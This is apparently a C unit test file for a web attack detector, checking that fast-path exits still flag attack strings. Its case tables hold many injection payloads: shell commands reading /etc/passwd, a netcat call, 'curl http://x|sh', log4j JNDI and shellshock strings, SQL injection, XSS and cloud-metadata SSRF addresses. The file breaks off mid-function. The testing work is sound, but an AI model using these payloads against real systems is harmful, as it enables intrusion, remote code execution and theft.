/* test_payload_exits.c - the early exits inside the command injection,
 * traversal, XSS, SQL injection and SSRF detectors (issue 20's speed work): each exit skips
 * work for a value that lacks some byte or first byte, and each case here
 * is an attack that reaches a finding only through the rarest way past
 * one exit. Scores and reasons are main's (1ee10ec) before the exits: an
 * exit drawn one byte too wide turns a row into a miss. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "collector/detect/payload.h"

struct exit_case {
	const char *in;
	size_t len; /* 0: strlen */
	enum payload_kind kind;
	int score;
	const char *why;
};

static const struct exit_case shell_cases[] = {
	/* scan_seps acts only at its byte table: CR and "\\n" are its
	 * rarest separators */
	{"x\rid", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"abc\\nwhoami", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	/* the word index by first byte: '%' opens %COMSPEC%; the Windows
	 * re-scan of a capitalised value goes through the same index */
	{"&%COMSPEC% /c dir", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"X|IPCONFIG /ALL", 0, PAYLOAD_CMDI, 80, "windows command after shell separator"},
	{"|busybox nc 1.2.3.4 80", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	/* the case-blind scan reads v->lo, or the unobfuscated copy folded */
	{"x;slEeP 5", 0, PAYLOAD_CMDI, 75, "mixed-case command after shell separator"},
	{"x|W\"h\"OAMI", 0, PAYLOAD_CMDI, 80, "mixed-case command after shell separator"},
	{";w", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	/* a cmdlet's verb starts with a capital */
	{"; Get-Process -Name x", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	/* sepless copies only for a '$' or a '{'; the interpreter test
	 * comes before that exit */
	{"cat${IFS}/etc/passwd", 0, PAYLOAD_CMDI, 85, "command words joined by $IFS"},
	{"{cat,/etc/passwd}", 0, PAYLOAD_CMDI, 85, "brace-expanded command line"},
	{"cmd /c whoami", 0, PAYLOAD_CMDI, 85, "interpreter told to run a command"},
	{"/bin/sh -c id", 0, PAYLOAD_CMDI, 85, "interpreter told to run a command"},
	{"zsh -c id", 0, PAYLOAD_CMDI, 85, "interpreter told to run a command"},
	/* the command line's letter first, after an opening quote */
	{"\"uname -a", 0, PAYLOAD_CMDI, 75, "value is a command line"},
	/* SSI needs '<' */
	{"<!--#exec cmd=\"ls\" -->", 0, PAYLOAD_CMDI, 90, "ssi exec directive"},
	/* a command line's words by length and first byte; its '~' tree */
	{"tail ~/.bash_history -n 5", 0, PAYLOAD_CMDI, 75, "value is a command line"},
	{"net user", 0, PAYLOAD_CMDI, 75, "value is a command line"},
	/* variables expanded: scan_seps tries them only with a '$' */
	{"a=who;b=ami;$a$b", 0, PAYLOAD_CMDI, 75, "command named by variables the value assigns"},
	/* cmd's grammar: FOR and CALL need a '%', cmd,/c a '/' and a ',' */
	{"for /f \"tokens=*\" %i in ('whoami') do %i", 0, PAYLOAD_CMDI, 85, "cmd for-loop running a command"},
	{"set x=who&&call %x%ami", 0, PAYLOAD_CMDI, 80, "cmd call of a variable"},
	{"cmd,/c whoami", 0, PAYLOAD_CMDI, 85, "cmd told to run a command"},
	/* PHP: interpolation needs a '$', the string break a quote */
	{"${@phpinfo()}", 0, PAYLOAD_CMDI, 85, "php call in string interpolation"},
	{"'.system(id).'", 0, PAYLOAD_CMDI, 80, "php string break around a call"},
	{";print(1)", 0, PAYLOAD_CMDI, 75, "php statement after separator"},
	/* an interpreter word by its first byte: lua, after a pipe */
	{"| lua -e 'os.execute()'", 0, PAYLOAD_CMDI, 85, "command after shell separator"},
};

static const struct exit_case trav_cases[] = {
	/* past payload_words.h's payload_words_trav_web (a web page's URL is not asked):
	 * a '.' after the host's '/', ".." in the host, no '/' after the
	 * host, "0x", one '/' after the scheme */
	{"https://x.example/a/../../../etc/passwd", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	{"https://x.example/shell.txt?", 0, PAYLOAD_TRAVERSAL, 70,
	 "remote file url ending in an empty query (remote include)"},
	{"https://a.b/..;/admin", 0, PAYLOAD_TRAVERSAL, 80, "parent step with a path parameter (..;/)"},
	{"https://a../../../etc/passwd", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	{"https://phpinfo.php", 0, PAYLOAD_TRAVERSAL, 50, "php diagnostics page as a file name"},
	{"https://x.example/0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/passwd", 0, PAYLOAD_TRAVERSAL, 95,
	 "parent traversal to a sensitive file"},
	{"http:/x.example/etc/passwd", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	/* the ".." walk runs only when c holds "..": here both are made
	 * by canon from spellings (0x2e, overlong UTF-8) */
	{"0x2e0x2e/0x2e0x2e/etc/passwd", 0, PAYLOAD_TRAVERSAL, 95, "parent traversal to a sensitive file"},
	{"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", 0, PAYLOAD_TRAVERSAL, 95,
	 "parent traversal to a sensitive file"},
	{"..\\..\\windows\\win.ini", 0, PAYLOAD_TRAVERSAL, 95, "parent traversal to a sensitive file"},
	{"..;/admin", 0, PAYLOAD_TRAVERSAL, 80, "parent reference in an evasive spelling"},
	/* sensitive names after each byte the walk stops at: '.' before a
	 * '.', ':', '/' (collapsed from "//" and "/./") */
	{"..htaccess", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	{"c:boot.ini", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	{"/etc//passwd", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	{"/./etc/./shadow", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	/* wrappers found from the value's colons: after other colons, by
	 * the first of two colons, after a '=' */
	{"a:b:c:ssh2.exec://x", 0, PAYLOAD_TRAVERSAL, 90, "php stream wrapper as a file name"},
	{"jar:file:/tmp/x.jar!/a", 0, PAYLOAD_TRAVERSAL, 90, "php stream wrapper as a file name"},
	{"x=compress.zlib://data.txt", 0, PAYLOAD_TRAVERSAL, 90, "php stream wrapper as a file name"},
	/* ".env" needs a 'v', "proc/" a 'p' and a 'c' */
	{".env", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	{"x/proc/12/cmdline", 0, PAYLOAD_TRAVERSAL, 75, "sensitive file path"},
	/* a value with no letter skips payload_trav_scan only without ".."
	 * and each of / \\ NUL (payload_words_trav_number, payload_words.h): a number
	 * with one of them */
	{"..;", 0, PAYLOAD_TRAVERSAL, 80, "parent reference in an evasive spelling"},
	{"1.2/../../../..", 0, PAYLOAD_TRAVERSAL, 85, "parent traversal past the root"},
	{"1..\\..\\..\\", 0, PAYLOAD_TRAVERSAL, 85, "parent traversal past the root"},
	{"1.2%00", 0, PAYLOAD_TRAVERSAL, 65, "nul byte in value"},
};

static const struct exit_case xss_cases[] = {
	/* a script URL's head by its first kept byte: after a control
	 * byte, a tab, a quote, an escaped quote, an HTML comment */
	{"\x01vbscript:msgbox(1)", 0, PAYLOAD_XSS, 80, "script url value"},
	{"\tjava\tscript:alert(1)", 0, PAYLOAD_XSS, 80, "script url value"},
	{"\\\"javascript:alert(1)", 0, PAYLOAD_XSS, 80, "script url value"},
	{"<!---->javascript:alert(1)", 0, PAYLOAD_XSS, 80, "script url value"},
	{"livescript:alert(1)", 0, PAYLOAD_XSS, 80, "script url value"},
	{"mocha:alert(1)", 0, PAYLOAD_XSS, 80, "script url value"},
	{"data:text/html,<b>x</b>", 0, PAYLOAD_XSS, 70, "active data url value"},
	/* the tag loop's rarer bytes: '#' and '&' before '{', "{{" */
	{"#{alert(1)}", 0, PAYLOAD_XSS, 70, "script in template substitution"},
	{"&{alert(1)}", 0, PAYLOAD_XSS, 70, "script in template substitution"},
	{"{{constructor.constructor('alert(1)')()}}", 0, PAYLOAD_XSS, 70, "script in client-side template"},
	{"x onmouseover=alert(1)", 0, PAYLOAD_XSS, 75, "event handler attribute after break"},
	/* a number break after the fifth blank (the blanks by memchr) */
	{"a b c d e 1;alert(1)//", 0, PAYLOAD_XSS, 65, "script call after expression break"},
	/* number breaks by the operator table; whole statements by a
	 * keyword's first byte and the sinks' names */
	{"1}]%alert(1)//", 0, PAYLOAD_XSS, 65, "script call after expression break"},
	{"throw 1;onerror=alert", 0, PAYLOAD_XSS, 60, "script statement using a dialog sink as the whole value"},
	{"Function('alert(1)')()", 0, PAYLOAD_XSS, 60, "string run by the function constructor as the whole value"},
	/* a sink through a global by the global's first byte; loads and
	 * navigations by the first bytes whole_script looks at */
	{"self.confirm(1)", 0, PAYLOAD_XSS, 60, "dialog or eval call as the whole value"},
	{"location='//evil.example'", 0, PAYLOAD_XSS, 60, "script loading or navigating to a url as the whole value"},
	/* css_value through each byte of its census */
	{"\\65xpression(alert(1))", 0, PAYLOAD_XSS, 70, "css expression in value"},
	{"color:ex/**/pression(alert(1))", 0, PAYLOAD_XSS, 70, "css expression in value"},
	{"x:url(javascript:alert(1))", 0, PAYLOAD_XSS, 75, "script url in css value"},
	{"behavior:url(x.htc)", 0, PAYLOAD_XSS, 70, "css behavior or binding in value"},
	{"-moz-binding:url(x.xml#x)", 0, PAYLOAD_XSS, 70, "css behavior or binding in value"},
	{"@import 'javascript:alert(1)';", 0, PAYLOAD_XSS, 75, "script url in css import"},
	{"x=document.cookie", 0, PAYLOAD_XSS, 65, "cookie read into an expression"},
	{"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]", 0, PAYLOAD_XSS, 70,
	 "script written in six characters"},
};

#define X10(s) s s s s s s s s s s
#define X60(s) X10(s) X10(s) X10(s) X10(s) X10(s) X10(s)
static const struct exit_case sqli_cases[] = {
	/* sqli_quiet proves quiet from the letters has[] holds: each door
	 * past it, the rarest first. "--" gives OR its comparison; "@@"
	 * alone; the letters of group 3 ('v'..'z', '_'); ';' before a
	 * statement; a constant, an OData operator, DIV after OR / a value;
	 * a quote with WAITFOR; '_' in a procedure's name */
	{"1 or 1--", 0, PAYLOAD_SQLI, 70, "boolean literal then comment"},
	{"1 @@datadir", 0, PAYLOAD_SQLI, 60, "server variable probe"},
	{"1 from information_schema.tables", 0, PAYLOAD_SQLI, 80, "system catalog access"},
	{"1 xor 1", 0, PAYLOAD_SQLI, 75, "xor with a literal after the value"},
	{"1;shutdown", 0, PAYLOAD_SQLI, 85, "stacked query"},
	{"1 or true", 0, PAYLOAD_SQLI, 70, "boolean constant after numeric value"},
	{"1 or 1 eq 1", 0, PAYLOAD_SQLI, 75, "odata tautology in a filter"},
	{"1 div 0", 0, PAYLOAD_SQLI, 75, "integer division after the value"},
	{"x' waitfor delay '0:0:5", 0, PAYLOAD_SQLI, 90, "waitfor delay"},
	{"exec xp_cmdshell 'dir'", 0, PAYLOAD_SQLI, 85, "mssql procedure"},
	/* payload_sqli_census_quiet (payload.c asks it without a byte of
	 * PAYLOAD_SQLI_MARKS): letters that spell no loud word, made loud
	 * by one mark each */
	{"1 or 1=1", 0, PAYLOAD_SQLI, 80, "boolean tautology on literals"},
	{"1 or 2>1", 0, PAYLOAD_SQLI, 80, "boolean tautology on literals"},
	{"1 or 1<2", 0, PAYLOAD_SQLI, 80, "boolean tautology on literals"},
	{"1 or 1!=2", 0, PAYLOAD_SQLI, 80, "boolean tautology on literals"},
	{"1 or 1#", 0, PAYLOAD_SQLI, 70, "boolean literal then comment"},
	{"1 or 1--", 0, PAYLOAD_SQLI, 70, "boolean literal then comment"},
	{"1;drop table users", 0, PAYLOAD_SQLI, 85, "stacked query"},
	{"@@version", 0, PAYLOAD_SQLI, 60, "server variable probe"},
	{"x' or 1 or '", 0, PAYLOAD_SQLI, 75, "boolean literal after string break"},
	{"x\" or 1 or \"", 0, PAYLOAD_SQLI, 75, "boolean literal after string break"},
	{"1 and sleep(5)", 0, PAYLOAD_SQLI, 90, "boolean with time or file function"},
	/* no letter, no quote: the byte gate opens on '#' and '-', and
	 * sqli_quiet lets a digit-led value with '#' or "--" through
	 * (payload_sqli_dml.c's arithmetic cut by a comment) */
	{"2-1-- -", 0, PAYLOAD_SQLI, 65, "arithmetic probe cut by a comment"},
	{"9124=9124#", 0, PAYLOAD_SQLI, 65, "arithmetic probe cut by a comment"},
	{"(2-1)-- -", 0, PAYLOAD_SQLI, 65, "arithmetic probe cut by a comment"},
	{"4-1/*", 0, PAYLOAD_SQLI, 65, "arithmetic probe cut by a comment"},
	/* '-' the only mark: sqli is asked past the census' letters only
	 * for "--" (GATE_SQLI_DASH, payload.c): no letter at all, and "--"
	 * apart from the words */
	{"2-1-- -", 0, PAYLOAD_SQLI, 65, "arithmetic probe cut by a comment"},
	{"x or 1 --", 0, PAYLOAD_SQLI, 70, "boolean literal then comment"},
	/* "/ *" with quiet letters (OR alone) */
	{"1/**/or/**/true", 0, PAYLOAD_SQLI, 70, "boolean constant after numeric value"},
	{"x/**/or/**/1/*", 0, PAYLOAD_SQLI, 70, "boolean literal then comment"},
	/* helper s, session 18: sqli_quiet lets through a number after
	 * blanks and a sign with "--" (payload_sqli_dml.c), a number with
	 * "/0" and AND/OR, ASC or DESC with "--" or '#' (payload_sqli_tail.c),
	 * and break_quiet a ',' after the break with an '=' after it (the SET
	 * list left open for the query's quote) */
	{" 2-1-- -", 0, PAYLOAD_SQLI, 65, "arithmetic probe cut by a comment"},
	{"1 and 1/0", 0, PAYLOAD_SQLI, 70, "boolean on a division by zero after the value"},
	{"name asc -- ", 0, PAYLOAD_SQLI, 60, "sort direction cut by a comment"},
	{"x', is_admin='1", 0, PAYLOAD_SQLI, 70, "set list continued to the query's own quote"},
	/* helper s, session 19: the doors measure a probe without its
	 * padding (sqli_core_len), the division takes blanks around '/'
	 * (slash_zero), the SET list counts only the bytes after its comma,
	 * and COPY with PROGRAM is a pair of words (a quote that only a
	 * letter follows, or dollar quoting and no quote at all) */
	{"1 and 1 / 0", 0, PAYLOAD_SQLI, 70, "boolean on a division by zero after the value"},
	{"1 and 1/0" X60(" "), 0, PAYLOAD_SQLI, 70, "boolean on a division by zero after the value"},
	{X60("0") "1 and 1/0", 0, PAYLOAD_SQLI, 70, "boolean on a division by zero after the value"},
	{" 2-1-- -" X60("-") X60(" "), 0, PAYLOAD_SQLI, 65, "arithmetic probe cut by a comment"},
	{"name asc --" X60("-") X60("-") X60("-"), 0, PAYLOAD_SQLI, 60, "sort direction cut by a comment"},
	{X60("lorem ipsum ") "', is_admin='1", 0, PAYLOAD_SQLI, 70, "set list continued to the query's own quote"},
	{"copy t from program 'id'", 0, PAYLOAD_SQLI, 85, "copy to or from a program"},
	{"copy t from program $$id$$", 0, PAYLOAD_SQLI, 85, "copy to or from a program"},
};

static const struct exit_case ssrf_cases[] = {
	/* bare_host without "//": a digit-led host ipv4_loose reads, in
	 * hex, or a wildcard name ending in "io" or "name", trailing dot */
	{"169.254.169.254", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"0xa9fea9fe", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"169.254.169.254.nip.io/latest/meta-data", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"169.254.169.254.xip.name", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"169.254.169.254.nip.io.", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	/* payload_ssrf_digit_may (a value of [0-9.-] alone): one part of
	 * ten digits (100.100.100.200, the smallest address that counts),
	 * octal from a '0', a trailing dot, a first part 169, 192 or 100 */
	{"1684301000.", 0, PAYLOAD_SSRF, 50, "shared-address-space metadata address as a value"},
	{"2852039166", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"025177524776", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"0251.0376.0251.0376", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"169.16689662", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"192.0.0.192", 0, PAYLOAD_SSRF, 90, "metadata address as a value"},
	{"100.100.100.200", 0, PAYLOAD_SSRF, 50, "shared-address-space metadata address as a value"},
	/* host_class's names by their lengths: whole, and as suffixes */
	{"http://metadata/", 0, PAYLOAD_SSRF, 90, "url to cloud metadata service"},
	{"http://metadata.azure.com/", 0, PAYLOAD_SSRF, 90, "url to cloud metadata service"},
	{"http://kubernetes.default/", 0, PAYLOAD_SSRF, 80, "url to a cluster-internal name"},
	{"http://x.svc.cluster.local/", 0, PAYLOAD_SSRF, 80, "url to a cluster-internal name"},
	{"http://a.localhost/", 0, PAYLOAD_SSRF, 84, "url to localhost"},
	{"http://lacolhost.com/", 0, PAYLOAD_SSRF, 84, "url to a name that resolves to loopback"},
	{"http://app.localtest.me/", 0, PAYLOAD_SSRF, 84, "url to a name that resolves to loopback"},
	{"http://10-0-0-1.nip.io/", 0, PAYLOAD_SSRF, 70, "url to private address"},
	{"http://127.0.0.1.sslip.io/", 0, PAYLOAD_SSRF, 84, "url to loopback address"},
};

static const struct exit_case cmdi_b64_cases[] = {
	/* the base64 reading from the first digits payload_b64_may keeps:
	 * an upper-case letter, a lower-case one up to 'f' */
	{"OyBjYXQgL2V0Yy9wYXNzd2Q=", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	{"fGlk", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	/* b64_head_refused: a first decoded byte at each edge b64_unwrap
	 * keeps (tab, newline, CR, blank, '~'), and the second: a quote */
	{"CTtjYXQgL2V0Yy9wYXNzd2Q=", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	{"CjtjYXQgL2V0Yy9wYXNzd2Q=", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	{"DXxpZA==", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"IDtjYXQgL2V0Yy9wYXNzd2Q=", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	{"fjtjYXQgL2V0Yy9wYXNzd2Q=", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	{"CScgb3IgMT0xLS0=", 0, PAYLOAD_SQLI, 90, "boolean tautology on literals"},
	/* the shell detector's base64 reading judges the text with every
	 * census bit set (payload_b64_val): base64 of ""c"ur'l'" and of
	 * ""w"ho'am'i" (q's finding on 3770ff4, which gave the census) */
	{"IiJjInVyJ2wnIg==", 0, PAYLOAD_CMDI, 75, "command word spelt with shell quoting"},
	{"IiJ3ImhvJ2FtJ2ki", 0, PAYLOAD_CMDI, 75, "command word spelt with shell quoting"},
	/* payload.c ldap_words: a ')' and a NUL are all ldap_scan's cut-off
	 * filter needs */
	{"abc)\0", 5, PAYLOAD_LDAPI, 70, "ldap filter closed and cut off by a nul"},
	/* run_detectors' may (payload_b64_head_refused): base64 SQL with no
	 * byte of PAYLOAD_SQLI_MARKS whose letters sqli's census proof finds
	 * quiet, so only the base64 reading asks sqli; its first decoded
	 * byte at each edge the head test keeps (tab, blank, '~', newline) */
	{"CScgb3Igc2xlZXAoNSkg", 0, PAYLOAD_SQLI, 90, "boolean with time or file function"},
	{"ICcgb3Igc2xlZXAoNSkg", 0, PAYLOAD_SQLI, 90, "boolean with time or file function"},
	{"ficgb3Igc2xlZXAoNSkg", 0, PAYLOAD_SQLI, 90, "boolean with time or file function"},
	{"Cicgb3Igc2xlZXAoNSkg", 0, PAYLOAD_SQLI, 90, "boolean with time or file function"},
};

/* payload_wrap.c's judge asks the four data detectors only where the
 * decoded text's census opens their gates and words (payload_data_may):
 * a text through each one's rarest opening */
static const struct exit_case wrap_cases[] = {
	/* "${jndi:ldap://x/a}" */
	{"JHtqbmRpOmxkYXA6Ly94L2F9", 0, PAYLOAD_JNDI, 95, "log4j lookup inside a base64 value"},
	/* "$x.class.classLoader": ssti_words' Velocity walk, no brace or '(' */
	{"JHguY2xhc3MuY2xhc3NMb2FkZXI=", 0, PAYLOAD_SSTI, 85, "template expression inside a base64 value"},
	/* "@(1+2)" and "<%= 7*7 %>": the pairs "(@" and "<%" */
	{"QCgxKzIp", 0, PAYLOAD_SSTI, 80, "template expression inside a base64 value"},
	{"PCU9IDcqNyAlPg==", 0, PAYLOAD_SSTI, 80, "template expression inside a base64 value"},
	/* "db.users.find()": payload_words_data's ".db" set (told at 50: a mongo
	 * shell call alone is a how-to's quote, a kill only after a
	 * statement break); "this.password.match(..)" */
	{"ZGIudXNlcnMuZmluZCgp", 0, PAYLOAD_NOSQLI, 50, "query operator inside a base64 value"},
	{"dGhpcy5wYXNzd29yZC5tYXRjaCgvXmEvKQ==", 0, PAYLOAD_NOSQLI, 70, "query operator inside a base64 value"},
	{"eyJjb25zdHJ1Y3RvciI6eyJwcm90b3R5cGUiOnsieCI6MX19fQ==", 0, PAYLOAD_PROTO_POLLUTION, 85,
	 "prototype key inside a base64 value"},
	/* "() { :; }; /bin/id" */
	{"KCkgeyA6OyB9OyAvYmluL2lk", 0, PAYLOAD_SHELLSHOCK, 95, "bash function definition inside a base64 value"},
	/* "http://169.254.169.254/latest/" */
	{"aHR0cDovLzE2OS4yNTQuMTY5LjI1NC9sYXRlc3Qv", 0, PAYLOAD_SSRF, 95,
	 "metadata or smuggling url inside a base64 value"},
};

static void check(const struct exit_case *c, size_t cnt)
{
	payload_cache_enable(0);
	for (size_t i = 0; i < cnt; i++) {
		struct payload_match m[PAYLOAD__COUNT];
		size_t len = c[i].len ? c[i].len : strlen(c[i].in);
		int n = payload_scan(c[i].in, len, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		int found = -1;

		for (int k = 0; k < n; k++)
			if (m[k].kind == c[i].kind)
				found = k;
		if (found < 0)
			fail_msg("%s: no %s finding", c[i].in, payload_kind_names[c[i].kind]);
		if (m[found].score != c[i].score || strcmp(m[found].why, c[i].why) != 0)
			fail_msg("%s: %d %s, want %d %s", c[i].in, m[found].score, m[found].why, c[i].score,
				 c[i].why);
	}
	payload_cache_enable(1);
}

/* A browser's User-Agent wakes sqli ('(' and its words), cmdi (blanks,
 * ';', '/'), xss, trav and data: a fast path for the UA grammar must let
 * each of these through (as header values) */
static const struct exit_case ua_cases[] = {
	{"Mozilla/5.0 (X11; Linux) sleep(5)", 0, PAYLOAD_SQLI, 80, "time or file function call"},
	{"Mozilla/5.0 (' or 1=1-- )", 0, PAYLOAD_SQLI, 90, "boolean tautology on literals"},
	{"() { :;}; id", 0, PAYLOAD_SHELLSHOCK, 95, "bash function definition at value start"},
	{"Mozilla/5.0 () { :;}; /bin/id", 0, PAYLOAD_CMDI, 90, "command after shell separator"},
	{"Mozilla/5.0 ${jndi:ldap://x.example/a}", 0, PAYLOAD_JNDI, 95, "jndi lookup"},
	/* past each condition of payload_sqli_gate.c's sqli_ua_quiet: a '('
	 * after a word and one inside a group (U2) */
	{"Mozilla/5.0 (compatible; benchmark(1e7,md5(1)))", 0, PAYLOAD_SQLI, 80, "time or file function call"},
	{"Mozilla/5.0 (X11) AND (SELECT 1 FROM (SELECT SLEEP(5))x)", 0, PAYLOAD_SQLI, 90,
	 "boolean with time or file function"},
	/* a quote after a whole browser UA (U1) */
	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' or '1'='1",
	 0, PAYLOAD_SQLI, 90, "boolean tautology on literals"},
	/* keywords alone, every byte and '(' of the grammar (U4) */
	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36; drop table users", 0, PAYLOAD_SQLI, 85, "stacked query"},
	{"Mozilla/5.0 (X11; rv:109.0) Gecko/1.0; drop table users", 0, PAYLOAD_SQLI, 85, "stacked query"},
	/* trigger words that are no keyword (U4) */
	{"Mozilla/5.0 (Windows NT 10.0; xp_cmdshell)", 0, PAYLOAD_SQLI, 85, "mssql procedure"},
	{"Mozilla/5.0 (X11; mysql.user)", 0, PAYLOAD_SQLI, 80, "system catalog access"},
	{"Mozilla/5.0 (X11; information_schema.tables)", 0, PAYLOAD_SQLI, 80, "system catalog access"},
	/* past payload_shape.c's UA grammar (cmdi is not asked on it): a
	 * byte out of G1 ('|', '$', '`', '&', NL, '{', quotes, '%') */
	{"Mozilla/5.0 (X11; Linux) ;id", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"Mozilla/5.0 $(id)", 0, PAYLOAD_CMDI, 85, "command after shell separator"},
	{"Mozilla/5.0 `id`", 0, PAYLOAD_CMDI, 85, "command after shell separator"},
	{"Mozilla/5.0 (compatible; curl http://x|sh)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"() { :;}; /bin/id", 0, PAYLOAD_CMDI, 90, "command after shell separator"},
	{"Mozilla/5.0 (X11; Linux) & id", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"Mozilla/5.0 (X11; Linux) <!--#exec cmd=\"x\"-->", 0, PAYLOAD_CMDI, 90, "ssi exec directive"},
	/* every condition held but G4: one word that is no UA word (each row
	 * is missed if its word joined payload_shape_ua_words[]) */
	{"Mozilla/5.0 (X11; id)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"Mozilla/5.0 (X11; whoami)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"Mozilla/5.0 (Windows NT 10.0; ipconfig)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"Mozilla/5.0 (X11; pwd)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"Mozilla/5.0 (X11; Linux; ps aux)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
	{"Mozilla/5.0 (X11; Linux; sleep 5)", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 (system; id)", 0,
	 PAYLOAD_CMDI, 80, "command after shell separator"},
	/* payload_data_scan is not asked on the same grammar either: its
	 * flags past G2 ("()"), G4 and G7 ('.' after a word) */
	{"Mozilla/5.0 (X11; constructor.prototype.x)", 0, PAYLOAD_PROTO_POLLUTION, 85, "constructor.prototype as a property path"},
	{"Mozilla/5.0 () { :;}; echo", 0, PAYLOAD_SHELLSHOCK, 85, "bash no-op function definition then a command"},
	{"Mozilla/5.0 (X11; Linux) x; db.users.drop()", 0, PAYLOAD_NOSQLI, 50, "mongo shell call"},
};

static void test_ua_attacks_found(void **st)
{
	(void)st;
	payload_cache_enable(0);
	for (size_t i = 0; i < sizeof(ua_cases) / sizeof(ua_cases[0]); i++) {
		const struct exit_case *c = &ua_cases[i];
		struct payload_match m[PAYLOAD__COUNT];
		int n = payload_scan(c->in, strlen(c->in), PAYLOAD_WHERE_HEADER, m, PAYLOAD__COUNT), found = -1;

		for (int k = 0; k < n; k++)
			if (m[k].kind == c->kind)
				found = k;
		if (found < 0 || m[found].score != c->score || strcmp(m[found].why, c->why) != 0)
			fail_msg("%s: no %s %d %s", c->in, payload_kind_names[c->kind], c->score, c->why);
	}
	payload_cache_enable(1);
}

static void test_shell_exits_let_attacks_through(void **st)
{
	(void)st;
	check(shell_cases, sizeof(shell_cases) / sizeof(shell_cases[0]));
}

static void test_trav_exits_let_attacks_through(void **st)
{
	(void)st;
	check(trav_cases, sizeof(trav_cases) / sizeof(trav_cases[0]));
}

static void test_xss_exits_let_attacks_through(void **st)
{
	(void)st;
	check(xss_cases, sizeof(xss_cases) / sizeof(xss_cases[0]));
}

static void test_sqli_quiet_lets_attacks_through(void **st)
{
	(void)st;
	check(sqli_cases, sizeof(sqli_cases) / sizeof(sqli_cases[0]));
}

static void test_ssrf_exits_let_attacks_through(void **st)
{
	(void)st;
	check(ssrf_cases, sizeof(ssrf_cases) / sizeof(ssrf_cases[0]));
	check(cmdi_b64_cases, sizeof(cmdi_b64_cases) / sizeof(cmdi_b64_cases[0]));
	check(wrap_cases, sizeof(wrap_cases) / sizeof(wrap_cases[0]));
}

/* payload_ssrf_browser_name's exit by the name's last byte: a
 * redirect_uri however spelled is a browser's, and its loopback URL no
 * finding; a name ending otherwise is no redirect_uri */
static void test_ssrf_browser_names(void **st)
{
	static const char *const browser[] = {"redirect_ur%69=http://127.0.0.1:8080/cb",
					      "redirect_URI_=http://127.0.0.1:8080/cb",
					      "redirect_uris[]=http://127.0.0.1:8080/cb",
					      "redirect.url.=http://127.0.0.1:8080/cb"};
	struct payload_match m[PAYLOAD__COUNT];
	int n;

	(void)st;
	payload_cache_enable(0);
	for (size_t i = 0; i < sizeof(browser) / sizeof(browser[0]); i++) {
		n = payload_scan_query(browser[i], strlen(browser[i]), PAYLOAD_WHERE_QUERY, m,
				       PAYLOAD__COUNT);
		for (int k = 0; k < n; k++)
			if (m[k].kind == PAYLOAD_SSRF)
				fail_msg("%s: %s", browser[i], m[k].why);
	}
	n = payload_scan_query("redirect_urx=http://127.0.0.1:8080/cb", 37, PAYLOAD_WHERE_QUERY, m,
			       PAYLOAD__COUNT);
	assert_int_equal(n, 1);
	assert_int_equal(m[0].kind, PAYLOAD_SSRF);
	payload_cache_enable(1);
}

/* the same words where the exits must stay shut: prose and names */
static void test_exits_keep_prose_clean(void **st)
{
	static const char *const clean[] = {"a|ID", "Get ready; it is time", "coffee size L",
					    "cmd is short for command", "{a,b}"};
	/* a wrapper whose first occurrence is glued to a word is none */
	static const char *const clean_trav[] = {"xphp://filter/resource=a", "process.env"};
	struct payload_match m[PAYLOAD__COUNT];

	(void)st;
	payload_cache_enable(0);
	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
		int n = payload_scan(clean[i], strlen(clean[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		for (int k = 0; k < n; k++)
			if (m[k].kind == PAYLOAD_CMDI)
				fail_msg("%s: %s", clean[i], m[k].why);
	}
	for (size_t i = 0; i < sizeof(clean_trav) / sizeof(clean_trav[0]); i++) {
